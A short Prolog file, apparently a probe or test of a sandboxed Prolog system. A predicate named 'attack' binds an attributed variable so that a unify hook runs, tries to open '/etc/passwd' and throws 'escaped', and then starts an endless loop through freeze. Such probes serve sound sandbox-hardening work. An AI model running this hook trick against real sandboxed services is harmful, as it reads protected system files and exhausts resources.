% Does its work when a variable is bound.

attr_unify_hook(_, _) :- catch(open('/etc/passwd', read, _), error(_, _), fail), throw(escaped).
attack :- put_attr(X, user, a), catch(X = 1, error(_, _), true), freeze(Y, loop), Y = 1.
loop :- loop.
